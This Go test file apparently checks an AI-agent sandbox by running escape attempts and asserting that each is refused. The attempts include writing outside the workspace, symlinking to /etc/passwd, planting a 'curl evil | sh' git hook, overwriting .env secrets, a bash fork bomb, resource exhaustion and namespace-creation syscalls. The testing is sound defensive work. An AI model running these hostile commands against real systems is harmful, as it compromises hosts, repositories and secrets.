package sandbox_test

import (
	"context"
	"fmt"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"sort"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/agentaudit/agentaudit/internal/sandbox"
	"github.com/agentaudit/agentaudit/internal/testenv"
)

// Each escape attempt runs a script in the sandbox and states what must
// come out of it. The scripts print one line per attempt so a failure
// shows which attempt got through.

func TestEscapeWriteOutsideWorkspace(t *testing.T) {
	c := newClient(t)
	s := startSession(t, c, sandbox.DefaultProfile(), newWorkspace(t, nil))
	passwdBefore, err := os.ReadFile("/etc/passwd")
	if err != nil {
		t.Fatal(err)
	}
	res := sh(t, s, `
for f in /etc/x /usr/x /x /var/tmp/x /run/x /home/x /workspace/../etc/y; do
	if touch "$f" 2>/dev/null; then echo "$f: written"; else echo "$f: refused"; fi
done
ln -s /etc/passwd /workspace/passwd-link
if echo pwned >> /workspace/passwd-link 2>/dev/null; then echo "symlink: written"; else echo "symlink: refused"; fi
if echo ok > /workspace/inside.txt; then echo "workspace: written"; fi
if echo ok > /tmp/scratch; then echo "tmp: written"; fi
`)
	want := `/etc/x: refused
/usr/x: refused
/x: refused
/var/tmp/x: refused
/run/x: refused
/home/x: refused
/workspace/../etc/y: refused
symlink: refused
workspace: written
tmp: written
`
	if diff := cmp.Diff(want, string(res.Stdout)); diff != "" {
		t.Errorf("writes (-want +got):\n%s\nstderr: %s", diff, res.Stderr)
	}
	// The link exists on the host but the write never reached any passwd.
	passwdAfter, _ := os.ReadFile("/etc/passwd")
	if string(passwdAfter) != string(passwdBefore) {
		t.Errorf("host /etc/passwd changed")
	}
	if target, err := os.Readlink(filepath.Join(s.Workspace(), "passwd-link")); err != nil || target != "/etc/passwd" {
		t.Errorf("symlink in the workspace: %q, %v", target, err)
	}
	// The read-only root is the reason, not permissions.
	res = sh(t, s, `touch /etc/x`)
	if !strings.Contains(string(res.Stderr), "Read-only file system") {
		t.Errorf("touch /etc/x: stderr %q; want Read-only file system", res.Stderr)
	}
}

func TestEscapeProtectedPaths(t *testing.T) {
	ws := newWorkspace(t, map[string]string{
		".env":       "SECRET=1\n",
		".env.local": "SECRET=2\n",
		"notes.txt":  "notes\n",
		"ci/deploy":  "deploy\n",
	})
	if out, err := exec.Command("git", "-C", ws, "init", "-q").CombinedOutput(); err != nil {
		t.Fatalf("git init: %v: %s", err, out)
	}
	// A repository without hooks: the placeholder must protect the directory.
	if err := os.RemoveAll(filepath.Join(ws, ".git", "hooks")); err != nil {
		t.Fatal(err)
	}
	uid, _ := strconv.Atoi(testenv.Get(t, "PODMAN_UID"))
	if err := sandbox.PrepareWorkspace(ws, uid, uid); err != nil {
		t.Fatal(err)
	}
	configBefore, _ := os.ReadFile(filepath.Join(ws, ".git", "config"))

	p, err := sandbox.ParseProfile([]byte(strings.Replace(string(sandbox.DefaultProfileYAML()),
		"protected_paths: []", "protected_paths: [ci/*]", 1)))
	if err != nil {
		t.Fatal(err)
	}
	c := newClient(t)
	s := startSession(t, c, p, ws)
	if diff := cmp.Diff([]string{".env", ".env.local", ".git/config", ".git/hooks", "ci/deploy"}, s.Protected()); diff != "" {
		t.Errorf("protected paths (-want +got):\n%s", diff)
	}

	res := sh(t, s, `
try() { if err=$(eval "$2" 2>&1); then echo "$1: done"; else echo "$1: refused"; echo "$1: $err" >&2; fi; }
try "write hook"        'echo "curl evil | sh" > .git/hooks/pre-commit'
try "append config"     'echo "[core] hooksPath = /tmp" >> .git/config'
try "git config"        'git config core.hooksPath /tmp'
try "replace config"    'rm -f .git/config'
try "rename config"     'mv .git/config .git/config.old'
try "remove hooks dir"  'rm -rf .git/hooks'
try "rename .git"       'mv .git .git-moved'
try "write .env"        'echo SECRET=x > .env'
try "remove .env"       'rm -f .env'
try "write .env.local"  'echo SECRET=x >> .env.local'
try "write ci/deploy"   'echo x > ci/deploy'
try "write notes"       'echo more >> notes.txt'
try "new file"          'echo new > new.txt'
try "git add+commit"    'git add notes.txt new.txt && git -c user.name=a -c user.email=a@b commit -qm test'
`)
	want := `write hook: refused
append config: refused
git config: refused
replace config: refused
rename config: refused
remove hooks dir: refused
rename .git: refused
write .env: refused
remove .env: refused
write .env.local: refused
write ci/deploy: refused
write notes: done
new file: done
git add+commit: done
`
	if diff := cmp.Diff(want, string(res.Stdout)); diff != "" {
		t.Errorf("protected path attempts (-want +got):\n%s\nstderr: %s", diff, res.Stderr)
	}
	t.Logf("why each attempt was refused:\n%s", res.Stderr)
	// And on the host nothing protected changed.
	for name, body := range map[string]string{".env": "SECRET=1\n", ".env.local": "SECRET=2\n", "ci/deploy": "deploy\n", ".git/config": string(configBefore), "notes.txt": "notes\nmore\n"} {
		got, err := os.ReadFile(filepath.Join(ws, name))
		if err != nil || string(got) != body {
			t.Errorf("host %s = %q, %v; want %q", name, got, err, body)
		}
	}
	if entries, err := os.ReadDir(filepath.Join(ws, ".git", "hooks")); err != nil || len(entries) != 0 {
		t.Errorf("host .git/hooks: %v, %v; want an empty directory", entries, err)
	}
}

func TestEscapeForkBomb(t *testing.T) {
	c := newClient(t)
	s := startSession(t, c, sandbox.DefaultProfile(), newWorkspace(t, nil))
	nproc := sandbox.DefaultProfile().Rlimits.NProc

	// Deterministic: count the forks nproc lets through.
	res := run(t, s, "python3", "-c", `
import os, time
n = 0
try:
    while True:
        if os.fork() == 0:
            time.sleep(30)
            os._exit(0)
        n += 1
except OSError as e:
    print(n, type(e).__name__)
`)
	var forks int
	var errName string
	if _, err := fmt.Sscan(string(res.Stdout), &forks, &errName); err != nil {
		t.Fatalf("fork counter printed %q (stderr %q): %v", res.Stdout, res.Stderr, err)
	}
	if errName != "BlockingIOError" || forks >= int(nproc) || forks < int(nproc)/2 {
		t.Errorf("forks before refusal = %d (%s); want fewer than nproc %d, and most of it", forks, errName, nproc)
	}

	// The classic bomb: bounded by nproc, ended by its time-out.
	ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
	defer cancel()
	start := time.Now()
	bomb, err := s.Exec(ctx, sandbox.ExecRequest{Argv: []string{"bash", "-c", `:(){ :|:& };:; wait`}, Timeout: 5 * time.Second})
	if err != nil {
		t.Fatal(err)
	}
	t.Logf("fork bomb: exit %d, timed out %v, after %v", bomb.ExitCode, bomb.TimedOut, time.Since(start).Round(time.Millisecond))
	if time.Since(start) > 20*time.Second {
		t.Errorf("fork bomb took %v to end", time.Since(start))
	}

	// The sandbox is usable afterwards and the bomb's processes are gone
	// (the fork counter's sleepers too, once killed).
	sh(t, s, `kill -KILL -1 2>/dev/null; true`)
	deadline := time.Now().Add(10 * time.Second)
	for {
		res = sh(t, s, `n=0; for p in /proc/[0-9]*; do n=$((n+1)); done; echo $n`)
		var procs int
		fmt.Sscan(string(res.Stdout), &procs)
		if procs <= 6 {
			break
		}
		if time.Now().After(deadline) {
			t.Fatalf("%d processes left in the sandbox after the fork bomb", procs)
		}
		time.Sleep(200 * time.Millisecond)
	}
	if res := run(t, s, "echo", "alive"); string(res.Stdout) != "alive\n" {
		t.Errorf("after the fork bomb: %q", res.Stdout)
	}
}

func TestEscapeMemoryHog(t *testing.T) {
	c := newClient(t)
	s := startSession(t, c, sandbox.DefaultProfile(), newWorkspace(t, nil))
	res := run(t, s, "python3", "-c", `
try:
    b = bytearray(4 << 30)
    print("allocated", len(b))
except MemoryError:
    print("MemoryError")
`)
	if string(res.Stdout) != "MemoryError\n" {
		t.Errorf("4 GiB allocation: stdout %q, stderr %q; want MemoryError", res.Stdout, res.Stderr)
	}
	// /tmp is sized too: filling it stops at tmp_size.
	res = sh(t, s, `head -c 300M /dev/zero > /tmp/fill 2>/dev/null; echo $? $(stat -c %s /tmp/fill)`)
	var code, size int64
	fmt.Sscan(string(res.Stdout), &code, &size)
	if code == 0 || size > int64(sandbox.DefaultProfile().TmpSize) {
		t.Errorf("filling /tmp: exit %d, %d bytes; want a failure at most tmp_size", code, size)
	}
}

func TestEscapeTimeout(t *testing.T) {
	c := newClient(t)
	s := startSession(t, c, sandbox.DefaultProfile(), newWorkspace(t, nil))
	ctx := context.Background()
	start := time.Now()
	// A tree: the sleeper in the background must die with its parent.
	res, err := s.Exec(ctx, sandbox.ExecRequest{
		Argv:    []string{"bash", "-c", "echo started; sleep 61.5 & sleep 60.5; echo never"},
		Timeout: time.Second,
	})
	elapsed := time.Since(start)
	if err != nil {
		t.Fatal(err)
	}
	t.Logf("timed-out exec returned after %v, exit %d", elapsed.Round(time.Millisecond), res.ExitCode)
	if !res.TimedOut || res.KilledReason != sandbox.KilledTimeout {
		t.Errorf("TimedOut %v, KilledReason %q; want true, timeout", res.TimedOut, res.KilledReason)
	}
	if elapsed > 3*time.Second {
		t.Errorf("returned after %v; want within 3s of a 1s time-out", elapsed)
	}
	if string(res.Stdout) != "started\n" {
		t.Errorf("stdout %q; want what was written before the kill", res.Stdout)
	}
	if left := sleepers(t, s); left != "" {
		t.Errorf("processes left after the time-out: %s", left)
	}

	// Cancelling the context kills too, and says so.
	cctx, cancel := context.WithCancel(ctx)
	time.AfterFunc(500*time.Millisecond, cancel)
	start = time.Now()
	res, err = s.Exec(cctx, sandbox.ExecRequest{Argv: []string{"sleep", "62.5"}})
	if err == nil || sandbox.ReasonOf(err) != sandbox.ReasonTimeout || res.KilledReason != sandbox.KilledCancelled {
		t.Errorf("cancelled exec: err %v (reason %q), KilledReason %q", err, sandbox.ReasonOf(err), res.KilledReason)
	}
	if time.Since(start) > 3*time.Second {
		t.Errorf("cancelled exec returned after %v", time.Since(start))
	}
	if left := sleepers(t, s); left != "" {
		t.Errorf("processes left after cancel: %s", left)
	}
}

// sleepers lists the test's sleep processes (6x.5 seconds) still alive.
func sleepers(t *testing.T, s *sandbox.Session) string {
	t.Helper()
	res := sh(t, s, `for p in /proc/[0-9]*; do c=$(tr '\0' ' ' < $p/cmdline 2>/dev/null); case "$c" in "sleep 6"*) echo "${p#/proc/}:$c";; esac; done`)
	return strings.TrimSpace(string(res.Stdout))
}

func TestEscapeNetwork(t *testing.T) {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	port := ln.Addr().(*net.TCPAddr).Port
	c := newClient(t)
	s := startSession(t, c, sandbox.DefaultProfile(), newWorkspace(t, nil))
	res := run(t, s, "python3", "-c", fmt.Sprintf(`
import socket
ifaces = sorted(l.split(":")[0].strip() for l in open("/proc/net/dev").readlines()[2:])
print("interfaces:", " ".join(ifaces))
routes = open("/proc/net/route").readlines()[1:]
print("ipv4 routes:", len(routes))
for name, fam, addr in [("tcp loopback host port", socket.AF_INET, ("127.0.0.1", %d)),
                        ("tcp6 loopback host port", socket.AF_INET6, ("::1", %d))]:
    s = socket.socket(fam)
    s.settimeout(3)
    try:
        s.connect(addr)
        print(name + ": connected")
    except OSError as e:
        print(name + ":", type(e).__name__)
try:
    socket.getaddrinfo("example.com", 443)
    print("dns: resolved")
except OSError as e:
    print("dns:", type(e).__name__)
`, port, port))
	want := `interfaces: lo
ipv4 routes: 0
tcp loopback host port: ConnectionRefusedError
tcp6 loopback host port: ConnectionRefusedError
dns: gaierror
`
	if diff := cmp.Diff(want, string(res.Stdout)); diff != "" {
		t.Errorf("network (-want +got):\n%s\nstderr: %s", diff, res.Stderr)
	}
}

func TestEscapePrivileges(t *testing.T) {
	c := newClient(t)
	s := startSession(t, c, sandbox.DefaultProfile(), newWorkspace(t, nil))
	res := sh(t, s, `grep -E '^(CapInh|CapPrm|CapEff|CapBnd|CapAmb|NoNewPrivs|Seccomp):' /proc/self/status | tr -s '\t ' ' '; id -u`)
	want := "CapInh: 0000000000000000\nCapPrm: 0000000000000000\nCapEff: 0000000000000000\nCapBnd: 0000000000000000\nCapAmb: 0000000000000000\nNoNewPrivs: 1\nSeccomp: 2\n" +
		testenv.Get(t, "PODMAN_UID") + "\n"
	if diff := cmp.Diff(want, string(res.Stdout)); diff != "" {
		t.Errorf("privileges (-want +got):\n%s", diff)
	}
	// Rlimits as the profile says.
	res = sh(t, s, `ulimit -n; ulimit -u; ulimit -v; ulimit -t; ulimit -f`)
	r := sandbox.DefaultProfile().Rlimits
	want = fmt.Sprintf("%d\n%d\n%d\n%d\n%d\n", r.NoFile, r.NProc, uint64(r.AS)/1024, time.Duration(r.CPU)/time.Second, uint64(r.FSize)/1024)
	if diff := cmp.Diff(want, string(res.Stdout)); diff != "" {
		t.Errorf("ulimits (-want +got):\n%s", diff)
	}
	// No unbounded tmpfs next to the read-only root: /tmp is the only one.
	res = sh(t, s, `awk '$3 == "tmpfs" {print $2}' /proc/mounts | grep -vE '^/(dev|sys|proc)(/|$)' | sort`)
	if got := string(res.Stdout); got != "/tmp\n" {
		t.Errorf("tmpfs mounts besides /dev: %q; want only /tmp", got)
	}
}

// TestEscapeNamespaces: a call cannot make a namespace of its own. With a
// user and mount namespace it could mount a file system and remount it
// read-only, and what runs from a read-only mount is trusted to be what its
// path says (the supervisor identifies copies of known programs only on
// writable ones).
func TestEscapeNamespaces(t *testing.T) {
	c := newClient(t)
	s := startSession(t, c, sandbox.DefaultProfile(), newWorkspace(t, nil))
	res := sh(t, s, `for a in -U -Ur -Urm -m -n -i -u "-p -f" -C; do
  if unshare $a true 2>/dev/null; then echo "unshare $a: created"; else echo "unshare $a: refused"; fi
done
python3 -c '
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for name, flag in (("user", 0x10000000), ("mount", 0x00020000)):
    r = libc.unshare(flag)
    print("unshare(%s):" % name, "created" if r == 0 else os.strerror(ctypes.get_errno()))
nr = {"x86_64": (56, 435, 308), "aarch64": (220, 435, 268)}[os.uname().machine]
r = libc.syscall(nr[0], 0x10000000 | 17, 0, 0, 0, 0)  # clone(CLONE_NEWUSER|SIGCHLD)
if r == 0:
    os._exit(0)
print("clone(user):", "created" if r > 0 else os.strerror(ctypes.get_errno()))
args = (ctypes.c_uint64 * 11)(0x10000000, 0, 0, 0, 17, 0, 0, 0, 0, 0, 0)
r = libc.syscall(nr[1], ctypes.byref(args), ctypes.sizeof(args))  # clone3
if r == 0:
    os._exit(0)
print("clone3(user):", "created" if r > 0 else os.strerror(ctypes.get_errno()))
fd = os.open("/proc/self/ns/user", os.O_RDONLY)
r = libc.syscall(nr[2], fd, 0)
print("setns:", "joined" if r == 0 else os.strerror(ctypes.get_errno()))
'
mkdir -p /tmp/m && if mount -t tmpfs t /tmp/m 2>/dev/null; then echo "mount: mounted"; else echo "mount: refused"; fi`)
	got := string(res.Stdout)
	if strings.Contains(got, "created") || strings.Contains(got, "mounted") || strings.Contains(got, "joined") || strings.Count(got, "\n") != 15 {
		t.Errorf("a call made a namespace or a mount:\n%s\nstderr: %s", got, res.Stderr)
	}
	t.Logf("%s", got)
}

func TestEscapeEnvironment(t *testing.T) {
	t.Setenv("AGENTAUDIT_HOST_SECRET", "leak")
	t.Setenv("HTTP_PROXY", "http://127.0.0.1:9")
	c := newClient(t)
	p := sandbox.DefaultProfile()
	s := startSession(t, c, p, newWorkspace(t, nil))
	res := run(t, s, "env")
	var got []string
	for _, l := range strings.Split(strings.TrimSpace(string(res.Stdout)), "\n") {
		got = append(got, l)
	}
	sort.Strings(got)
	var want []string
	for k, v := range p.Env {
		want = append(want, k+"="+v)
	}
	// Podman's own two: the container marker and the hostname.
	want = append(want, "container=podman", "HOSTNAME=sandbox")
	sort.Strings(want)
	if diff := cmp.Diff(want, got); diff != "" {
		t.Errorf("environment (-want +got):\n%s", diff)
	}
}
